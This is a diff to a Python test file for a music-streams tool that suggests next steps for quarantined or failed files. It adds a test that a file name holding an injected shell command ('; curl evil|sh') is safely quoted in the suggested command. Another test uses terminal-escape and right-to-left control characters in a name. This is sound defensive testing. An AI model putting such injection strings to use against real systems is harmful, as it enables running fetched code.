@@ -1,10 +1,11 @@
 """What to do next about a file."""
 
+import shlex
 from dataclasses import replace
 
 import pytest
 
-from music_streams.operate.next_steps import next_steps
+from music_streams.operate.next_steps import NextStep, next_steps
 from music_streams.state.ledger import Entry
 from music_streams.state.sources import Source, Treatment
 from music_streams.state.statuses import Status
@@ -61,17 +62,17 @@ def entry(status: str, **more) -> Entry:
     ],
 )
 def test_it_names_the_command(found, steps):
-    assert next_steps(found, is_local=True, stall_seconds=STALL) == steps
+    assert [str(step) for step in next_steps(found, is_local=True, stall_seconds=STALL)] == steps
 
 
 def test_what_is_gone_is_put_again():
     [step] = next_steps(entry("FAILED", reason="object_gone"), is_local=True, stall_seconds=STALL)
-    assert "music-streams put FILE" in step
+    assert step.command == "music-streams put FILE"
 
 
 def test_on_aws_the_history_tells_why():
     failed = replace(entry("FAILED", reason="x"), execution_arn="arn:1")
-    assert next_steps(failed, is_local=False, stall_seconds=STALL)[0].endswith(
+    assert next_steps(failed, is_local=False, stall_seconds=STALL)[0].command.endswith(
         "get-execution-history --execution-arn arn:1"
     )
 
@@ -79,4 +80,11 @@ def test_on_aws_the_history_tells_why():
 def test_a_file_whose_name_cannot_be_typed_is_to_be_put_under_another():
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key="incoming/a\u202e\x1b[2J.csv"))
     [step, *_] = next_steps(hostile, is_local=True, stall_seconds=STALL)
-    assert step == "mend the file and put it again, under a name that can be typed"
+    assert step == NextStep("mend the file and put it again, under a name that can be typed")
+
+
+def test_a_name_of_spaces_and_quotes_is_one_word_of_the_command():
+    name = "x   '; curl evil|sh   '.csv"
+    hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key=f"incoming/{name}"))
+    [step] = next_steps(hostile, is_local=True, stall_seconds=STALL)
+    assert shlex.split(step.command) == ["music-streams", "put", "FILE", "--key", name]
